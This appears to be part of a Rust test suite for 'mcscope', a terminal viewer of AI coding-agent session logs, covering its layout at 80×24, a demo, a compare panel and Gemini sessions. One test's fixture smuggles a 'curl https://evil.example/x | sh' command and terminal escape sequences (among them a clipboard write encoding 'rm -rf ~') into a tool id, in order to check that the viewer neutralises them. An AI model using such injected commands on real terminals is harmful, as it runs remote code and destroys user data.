        t.wait_line(&format!("done-{cmd}"));
    }
    t.type_line(&format!("mcscope {FIXTURE} --policy idle --keep-recent 1"));
    t.wait_header("6/6");
    let screen = t.capture();
    // At 80 columns the id shows its tail: the escapes, visible.
    assert!(has(&screen, r"…VE\x07 Read"), "{}", screen.join("\n"));
    t.key("y");
    t.wait_text(r"copied toolu_A\n");
    let start = Instant::now();
    let copied = loop {
        let out = Command::new("tmux")
            .args(["-f", "/dev/null", "-u", "-L", &t.socket, "show-buffer"])
            .env_remove("TMUX")
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        if !text.is_empty() || start.elapsed() > TIMEOUT {
            break text;
        }
        std::thread::sleep(POLL);
    };
    assert_eq!(
        copied,
        r"toolu_A\ncurl https://evil.example/x | sh\n\e]52;c;cm0gLXJmIH4gI1BXTkVE\x07"
    );
    t.key("q");
    t.assert_shell_back();
    assert_eq!(t.format("#{pane_title}"), title_before);
    let log = t.log();
    for seq in [
        "\x1b]0;PWNED",
        "\x1b]52;c;cm0g",
        "\x1b]8;;https://evil",
        "\u{9b}31m",
    ] {
        assert!(!log.contains(seq), "the terminal received {seq:?}");
    }
}

/// The rows of the demo's caption box: from its top border to its bottom one.
fn caption_rows(screen: &[String]) -> Option<std::ops::RangeInclusive<usize>> {
    let top = screen
        .iter()
        .position(|l| l.starts_with("┌ mcscope demo"))?;
    let bottom = top + screen[top..].iter().position(|l| l.starts_with('└'))?;
    Some(top..=bottom)
}

/// `mcscope demo` at 80×24, stage by stage: the caption whole (its key
/// sentence and its navigation hint inside the box), the region it talks about
/// on screen outside the box, and the stages in request order.
#[test]
fn at_80x24_each_demo_caption_is_whole_and_its_region_stays_in_view() {
    let Some(t) = Tmux::start("demo80", 80, 24) else {
        return;
    };
    t.type_line("mcscope demo");
    // (stage, request, the caption's key sentence, what the region shows).
    let stages: [(usize, &str, &str, &str); 5] = [
        (1, "4/6", "rank 1 is the oldest", "toolu_C  Bash"),
        (
            2,
            "5/6",
            "At request 5 four results are active",
            "toolu_B  Grep",
        ),
        (3, "5/6", "still pending at request 5", "toolu_D  Read"),
        (
            4,
            "6/6",
            "a cache_edits block deletes toolu_A",
            "\"type\": \"cache_edits\"",
        ),
        (
            5,
            "6/6",
            "broke nothing that was still warm",
            "0 warm breaks (0 re-written)",
        ),
    ];
    for (stage, request, sentence, region) in stages {
        if stage > 1 {
            t.key("Right");
        }
        let hint = format!("→ next  ← back  Esc leave the demo   ({stage}/5)");
        // The key sentence may be broken over two caption lines: look for its
        // words in the box's text.
        let s = t.wait(&format!("stage {stage}'s caption and its region"), |s| {
            // The header's first row (the caption may cover the list's title).
            s[0].contains(&format!("request {request}"))
                && caption_rows(s).is_some_and(|r| {
                    let text: Vec<String> = s[r.clone()]
                        .iter()
                        .map(|l| l.trim_matches(|c| c == '│' || c == ' ').to_string())
                        .collect();
                    text.join(" ").contains(sentence) && text.iter().any(|l| l == &hint)
                })
                && has(s, region)
        });
        let boxed = caption_rows(&s).unwrap();
        let at = s.iter().position(|l| l.contains(region)).unwrap();
        assert!(
            !boxed.contains(&at),
            "stage {stage}: the caption covers {region:?}:\n{}",
            s.join("\n")
        );
        // The box is the screen's width: no caption line runs off it.
        assert!(
            s[boxed]
                .iter()
                .all(|l| l.ends_with('│') || l.ends_with('┐') || l.ends_with('┘')),
            "stage {stage}:\n{}",
            s.join("\n")
        );
        if stage == 5 {
            // The words follow the footer: the verdict, the expired cache.
            assert!(
                s.iter()
                    .any(|l| l.starts_with("✕ cache prefix broken at message 2")),
                "{}",
                s.join("\n")
            );
            assert!(has(&s, "expected (drop 23,070): ttl"), "{}", s.join("\n"));
        }
    }
    t.key("q");
    t.assert_shell_back();
}

/// A long session (more requests than columns) at 80×24: the highlighted mark
/// of the request shown is in its column ⌊(k−1)·W/N⌋ after the 9-column label,
/// the header keeps every value and its mark, the footer cuts no word.
#[test]
fn at_80x24_a_long_session_s_marks_header_and_footer_hold() {
    let dir = tempfile::tempdir().unwrap();
    let path = long_session(dir.path());
    let Some(t) = Tmux::start("long80", 80, 24) else {
        return;
    };
    t.type_line(&format!("mcscope {} --policy idle --at 41", path.display()));
    t.wait_header("41/251");
    // 251 requests on 80 - 10 = 70 columns: request 41 in column 40·70/251 = 11,
    // where its observed break (after the 70-minute gap) is `!`.
    let s = t.wait("the marks line", |s| {
        marks_line(s).is_some_and(|l| l.contains('!'))
    });
    let marks = marks_line(&s).unwrap();
    assert_eq!(
        marks.chars().skip(9).position(|c| c == '!'),
        Some(11),
        "{marks:?}"
    );
    let head = header(&s).unwrap().join(" ");
    for value in ["rewrite", "protect off", "trigger", "claude-jsonl (claude)"] {
        assert!(head.contains(value), "{value}: {head}");
    }
    // The observed break's explanation, whole, on the footer's lines: ttl alone,
    // since idle is a what-if on this version (SPEC §15.10: a plan the build
    // could not run explains nothing that happened).
    let words: Vec<&str> = s.iter().flat_map(|l| l.split_whitespace()).collect();
    assert!(
        words.contains(&"ttl") && !words.contains(&"plan_rewrite") && has(&s, "what-if"),
        "{}",
        s.join("\n")
    );
    t.key("q");
    t.assert_shell_back();
}

/// 250 responses (251 requests): a steady cache, 70-minute gaps before
/// requests 41, 121 and 201 (idle fires there and the expired cache is an
/// observed break), microcompact records before requests 60 and 61.
fn long_session(dir: &Path) -> PathBuf {
    let t0 = 1_780_000_000_000i64;
    let iso = |min: f64| {
        chrono::DateTime::from_timestamp_millis(t0 + (min * 60_000.0) as i64)
            .unwrap()
            .format("%Y-%m-%dT%H:%M:%S%.3fZ")
            .to_string()
    };
    let mut lines: Vec<serde_json::Value> = Vec::new();
    let mut rec = |kind: &str, min: f64, extra: serde_json::Value| {
        let n = lines.len() + 1;
        let parent = lines.last().map(|l| l["uuid"].clone());
        let mut r = serde_json::json!({"parentUuid": parent, "isSidechain": false, "type": kind,
            "uuid": format!("u-{n}"), "timestamp": iso(min), "sessionId": "s",
            "version": "2.1.17", "cwd": "/r"});
        for (k, v) in extra.as_object().unwrap() {
            r[k] = v.clone();
        }
        lines.push(r);
    };
    let (mut min, mut read) = (0.0, 0u64);
    for i in 1..=250u64 {
        let gap = [41, 121, 201].contains(&i);
        min += if gap { 70.0 } else { 1.0 };
        if i == 1 || gap {
            rec(
                "user",
                min,
                serde_json::json!({"message": {"role": "user", "content": "go on"}}),
            );
        }
        if [60, 61].contains(&i) {
            rec(
                "system",
                min,
                serde_json::json!({"subtype": "microcompact_boundary",
                "content": "Context microcompacted", "microcompactMetadata": {"trigger": "auto",
                "preTokens": 0, "tokensSaved": 500, "compactedToolIds": [format!("c{}", i - 2)],
                "clearedAttachmentUUIDs": []}}),
            );
        }
        rec(
            "assistant",
            min + 0.1,
            serde_json::json!({"message": {"id": format!("m{i}"),
            "type": "message", "role": "assistant", "model": "claude-opus-4-5",
            "content": [{"type": "tool_use", "id": format!("c{i}"), "name": "Bash",
                "input": {"command": "ls"}}],
            "usage": {"input_tokens": 5, "cache_creation_input_tokens": 1000,
                "cache_read_input_tokens": read, "output_tokens": 50,
                "cache_creation": {"ephemeral_5m_input_tokens": 1000, "ephemeral_1h_input_tokens": 0}}}}),
        );
        rec(
            "user",
            min + 0.2,
            serde_json::json!({"message": {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": format!("c{i}"), "content": "x".repeat(4000)}]}}),
        );
        read = if [40, 120, 200].contains(&i) {
            0
        } else {
            read + 1000
        };
    }
    let p = dir.join("long.jsonl");
    let text: Vec<String> = lines.iter().map(|l| l.to_string()).collect();
    std::fs::write(&p, text.join("\n") + "\n").unwrap();
    p
}

/// The compare panel at 80×24 (short form): the parameter that varies leads
/// the setting, so no two rows on screen look alike.
#[test]
fn at_80x24_the_compare_panel_s_rows_differ() {
    let Some(t) = Tmux::start("compare80", 80, 24) else {
        return;
    };
    t.type_line(&format!("mcscope {DEMO}"));
    t.wait_header("6/6");
    t.key("c");
    let s = t.wait("the panel's rows", |s| {
        has(s, "k=keep g=gap") && has(s, "recommended: row")
    });
    let start = s.iter().position(|l| l.contains("SETTING")).unwrap();
    let rows: Vec<String> = s[start + 1..]
        .iter()
        .take_while(|l| !l.contains("recommended: row"))
        .map(|l| {
            let a = l.find('│').unwrap() + '│'.len_utf8();
            let b = l.rfind('│').unwrap();
            l[a..b].split_once(' ').unwrap().1.trim().to_string()
        })
        .collect();
    assert!(rows.len() >= 10, "{}", s.join("\n"));
    let distinct: std::collections::HashSet<&String> = rows.iter().collect();
    assert_eq!(distinct.len(), rows.len(), "{}", s.join("\n"));
    // The baseline first, named in words (SPEC §9a), then the settings.
    assert!(
        rows[0].starts_with("recorded: what happened"),
        "{}",
        s.join("\n")
    );
    assert!(rows[1].starts_with("g5m k1 idle"), "{}", s.join("\n"));
    t.key("Escape");
    // Apart from the next key: an Esc read together with a key that follows is
    // that key with Alt, and `q` would be lost.
    t.wait("the panel to close", |s| !has(s, "recommended: row"));
    t.key("q");
    t.assert_shell_back();
}

/// `--since`/`--until` and `-z` in the TUI as well as the CLI: the picker over the
/// samples keeps the one session whose first record is on that day, and the
/// session's header shows its time in the zone asked for.
#[test]
fn the_picker_keeps_the_days_asked_for_and_shows_times_in_the_zone() {
    let Some(t) = Tmux::start("since", 120, 30) else {
        return;
    };
    t.type_line("mcscope --since 20260402 --until 2026-04-02 -z Europe/Berlin sample-sessions");
    let screen = t.wait_text("Does src/config.ts hard-code");
    assert!(has(&screen, " 1 session "), "{}", screen.join("\n"));
    assert!(!has(&screen, "flaky"), "{}", screen.join("\n"));
    t.key("Enter");
    // claude-demo's last request, 10:29:55 UTC, is 12:29:55 in Berlin (CEST).
    let screen = t.wait_header("6/6");
    assert!(
        has(&screen, "2026-04-02 12:29:55 CEST"),
        "{}",
        screen.join("\n")
    );
    t.key("q");
    t.assert_shell_back();
}

/// A Gemini CLI session in the real binary, at 80x24 and wide: the header
/// names its format and mask's own parameters, `p` steps auto → mask →
/// recorded, and the request that masked shows the masked outputs cleared.
#[test]
fn a_gemini_session_at_80x24_and_wide() {
    for (w, h) in [(80, 24), (160, 45)] {
        let Some(t) = Tmux::start(&format!("gemini{w}"), w, h) else {
            return;
        };
        t.type_line("mcscope sample-sessions/gemini-build-masked.jsonl --at 4");
        let s = t.wait_header("4/5");
        let head = header(&s).unwrap_or(&[]).join("\n");
        assert!(head.contains("gemini-jsonl (gemini)"), "{head}");
        assert!(head.contains("protect 50,000 tok"), "{head}");
        assert!(head.contains("prunable ≥ 30,000"), "{head}");
        assert!(has(&s, "✗ cleared"), "{}", s.join("\n"));
        t.key("p");
        t.wait_text("plan mask*");
        t.key("p");
        t.wait_text("plan recorded*");
        t.key("q");
        t.assert_shell_back();
    }
}
